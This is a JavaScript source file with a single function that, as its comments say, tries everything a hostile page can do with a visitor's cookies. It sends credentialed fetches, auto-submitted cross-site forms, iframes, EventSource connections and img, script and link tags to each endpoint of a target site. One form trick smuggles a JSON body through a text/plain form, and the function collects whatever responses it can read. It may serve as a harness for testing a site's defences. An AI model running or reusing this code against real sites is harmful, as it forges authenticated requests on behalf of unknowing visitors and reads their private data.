// What a page can try with the cookie of somebody who looks at it: each endpoint, in every way that a browser has.
// Comes to how often it tried, and everything that it could read.
async function attack(target, endpoints) {
    const read = [];
    let tries = 0;
    let frames = 0;
    const got = (how, endpoint, what) => read.push(`${how} ${endpoint.method} ${endpoint.path}: ${what}`);

    // What is saved as a file, or does not end, tells nothing: only whoever is let in comes to that.
    const giveUpLater = end => setTimeout(end, 1000);

    // Streams do not end: the first bytes are enough.
    async function beginning(answer) {
        const reader = answer.body.getReader();
        const {value} = await reader.read();
        await reader.cancel();
        return new TextDecoder().decode(value);
    }

    async function byFetch(endpoint, mode, type) {
        const options = {method: endpoint.method, mode, credentials: 'include'};
        if (endpoint.body) {
            options.body = endpoint.body;
            options.headers = {'Content-Type': type};
        }
        tries++;
        try {
            const answer = await fetch(target + endpoint.path, options);
            if (answer.body) got('fetch', endpoint, answer.status + ' ' + await beginning(answer));
        } catch {
            // refused by the browser
        }
    }

    function byElement(name, endpoint, attributes) {
        const element = Object.assign(document.createElement(name), attributes);
        tries++;
        return new Promise(resolve => {
            element.onload = () => {
                if (name !== 'iframe') got(name, endpoint, 'loaded');
                resolve(element);
            };
            element.onerror = () => resolve(element);
            giveUpLater(() => {
                element.remove();
                resolve(element);
            });
            document.body.append(element);
        });
    }

    async function byFrame(endpoint, start) {
        const name = 'frame' + ++frames;
        const frame = document.createElement('iframe');
        frame.name = name;
        document.body.append(frame);
        tries++;
        await new Promise(resolve => {
            frame.onload = resolve;
            giveUpLater(resolve);
            start(frame, name);
        });
        try {
            // what has not come in time is still an empty frame
            if (frame.contentWindow.location.href !== 'about:blank') got('frame', endpoint, frame.contentDocument.body.innerText);
        } catch {
            // another origin
        }
        frame.remove();
    }

    function byForm(endpoint, method, enctype) {
        return byFrame(endpoint, (frame, name) => {
            const form = Object.assign(document.createElement('form'),
                {action: target + endpoint.path, method, enctype, target: name});
            // sent as text, a name and a value with = between them are the JSON that the endpoint wants
            const [before, after] = endpoint.body ? [endpoint.body.slice(0, -1) + ',"x":"', '"}'] : ['x', 'y'];
            form.append(Object.assign(document.createElement('input'), {name: before, value: after}));
            document.body.append(form);
            form.submit();
        });
    }

    function byEvents(endpoint) {
        tries++;
        return new Promise(resolve => {
            const events = new EventSource(target + endpoint.path, {withCredentials: true});
            events.onopen = () => {
                got('events', endpoint, 'opened');
                events.close();
                resolve();
            };
            events.onerror = () => {
                events.close();
                resolve();
            };
        });
    }

    async function everyWay(endpoint) {
        const there = target + endpoint.path;
        for (const mode of ['cors', 'no-cors']) {
            for (const type of endpoint.body ? ['text/plain', 'application/json', 'application/x-www-form-urlencoded'] : ['']) {
                await byFetch(endpoint, mode, type);
            }
        }
        if (endpoint.body) {
            await byForm(endpoint, 'POST', 'text/plain');
            await byForm(endpoint, 'POST', 'application/x-www-form-urlencoded');
            return;
        }
        await byForm(endpoint, 'GET', 'application/x-www-form-urlencoded');
        await byFrame(endpoint, frame => { frame.src = there; });
        await byEvents(endpoint);
        await byElement('img', endpoint, {src: there});
        await byElement('script', endpoint, {src: there});
        await byElement('link', endpoint, {rel: 'stylesheet', href: there});
    }

    await Promise.all(endpoints.map(everyWay));
    return {tries, read};
}
